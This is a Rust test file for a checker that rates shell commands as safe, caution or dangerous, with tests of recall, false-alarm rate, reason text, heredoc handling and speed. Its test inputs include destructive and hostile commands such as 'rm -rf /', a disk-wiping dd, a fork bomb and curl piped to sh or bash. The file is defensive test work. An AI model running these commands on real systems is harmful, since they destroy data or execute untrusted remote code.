//! Table-driven checks of the verdicts, plus the recall / false-alarm figures.

use super::cases::{CASES, Set};
use super::{Level, check};

#[test]
fn every_case_gets_its_expected_level() {
    let wrong: Vec<String> = CASES
        .iter()
        .filter_map(|case| {
            let got = check(case.command);
            (got.level != case.expect).then(|| {
                format!(
                    "{:?}: expected {}, got {} ({:?})",
                    case.command,
                    case.expect.as_str(),
                    got.level.as_str(),
                    got.reason
                )
            })
        })
        .collect();
    assert!(
        wrong.is_empty(),
        "{} mismatches:\n{}",
        wrong.len(),
        wrong.join("\n")
    );
}

#[test]
fn recall_and_false_alarm_rate() {
    let dangerous: Vec<_> = CASES.iter().filter(|c| c.set == Set::Dangerous).collect();
    let benign: Vec<_> = CASES.iter().filter(|c| c.set == Set::Benign).collect();
    assert!(CASES.len() >= 150, "table has {} commands", CASES.len());
    assert!(
        dangerous.len() >= 80,
        "only {} dangerous cases",
        dangerous.len()
    );
    assert!(
        benign.len() >= 50,
        "only {} benign look-alikes",
        benign.len()
    );

    let caught = dangerous
        .iter()
        .filter(|c| check(c.command).level == Level::Dangerous)
        .count();
    let alarms = benign
        .iter()
        .filter(|c| check(c.command).level == Level::Dangerous)
        .count();
    let recall = caught as f64 / dangerous.len() as f64;
    let false_alarms = alarms as f64 / benign.len() as f64;
    println!(
        "safety table: recall {:.1}% ({caught}/{}) on dangerous, false alarms {:.1}% ({alarms}/{}) on benign look-alikes",
        recall * 100.0,
        dangerous.len(),
        false_alarms * 100.0,
        benign.len()
    );
    assert_eq!(caught, dangerous.len(), "recall must be 100%");
    assert!(
        false_alarms <= 0.02,
        "false alarms {:.1}% > 2%",
        false_alarms * 100.0
    );
}

#[test]
fn reason_is_present_exactly_when_not_safe() {
    for case in CASES {
        let v = check(case.command);
        assert_eq!(
            v.reason.is_some(),
            v.level != Level::Safe,
            "{:?} -> {v:?}",
            case.command
        );
        if let Some(reason) = &v.reason {
            assert!(!reason.is_empty() && reason.len() < 120, "{reason:?}");
        }
    }
}

#[test]
fn reasons_name_the_worst_part() {
    let reason = |c: &str| check(c).reason.unwrap_or_default();
    assert_eq!(
        reason("rm -rf ~"),
        "deletes your home directory recursively"
    );
    assert_eq!(
        reason("rm notes.txt && rm -rf /"),
        "deletes the entire filesystem"
    );
    assert_eq!(
        reason("rm -rf $DIR/"),
        "deletes the entire filesystem if $DIR is empty"
    );
    assert!(reason("curl -fsSL https://x.io/i.sh | sh").contains("download"));
    assert!(reason("dd if=/dev/zero of=/dev/sda").contains("/dev/sda"));
    assert!(reason("git push -f origin main").contains("main"));
    assert!(reason(":(){ :|:& };:").contains("fork bomb"));
}

#[test]
fn worst_level_wins_across_a_list() {
    assert_eq!(check("ls; rm notes.txt").level, Level::Caution);
    assert_eq!(
        check("rm notes.txt; ls; curl https://x.io | bash").level,
        Level::Dangerous
    );
    assert_eq!(check("echo hi").level, Level::Safe);
}

#[test]
fn level_strings_and_serde_are_lowercase() {
    assert_eq!(Level::Dangerous.as_str(), "dangerous");
    assert_eq!(Level::Caution.as_str(), "caution");
    assert_eq!(Level::Safe.as_str(), "safe");
    let json = serde_json::to_string(&check("rm -rf /")).unwrap_or_default();
    assert!(json.contains(r#""level":"dangerous""#), "{json}");
    let back: super::Verdict = serde_json::from_str(&json).expect("round trip");
    assert_eq!(back.level, Level::Dangerous);
}

#[test]
fn heredoc_body_is_data_unless_a_shell_reads_it() {
    assert_eq!(
        check("cat <<EOF\nrm -rf /\nEOF\necho done").level,
        Level::Safe
    );
    assert_eq!(check("bash <<'EOF'\nrm -rf ~\nEOF").level, Level::Dangerous);
    assert_eq!(
        check("ssh host <<EOF\nrm -rf /\nEOF").level,
        Level::Dangerous
    );
    assert_eq!(
        check("cat <<A <<B\nx\nA\nrm -rf /\nB\nls").level,
        Level::Safe
    );
    assert_eq!(check("bash <<< 'rm -rf /'").level, Level::Dangerous);
}

#[test]
fn directory_changes_are_followed() {
    assert_eq!(check("cd ~ && rm -rf *").level, Level::Dangerous);
    assert_eq!(check("cd /tmp && rm -rf *").level, Level::Caution);
    assert_eq!(check("cd .. && rm -rf *").level, Level::Dangerous);
    assert_eq!(check("cd && rm -rf ./*").level, Level::Dangerous);
}

#[test]
fn bench_report_is_well_formed_and_fast() {
    let line = super::bench_report();
    assert!(line.starts_with("safety check: mean "), "{line}");
    assert!(line.ends_with("over 10000 commands"), "{line}");
    let mean: f64 = line
        .trim_start_matches("safety check: mean ")
        .split(' ')
        .next()
        .and_then(|m| m.parse().ok())
        .unwrap_or(f64::MAX);
    assert!(mean < 1000.0, "mean check time {mean} µs is over 1 ms");
}
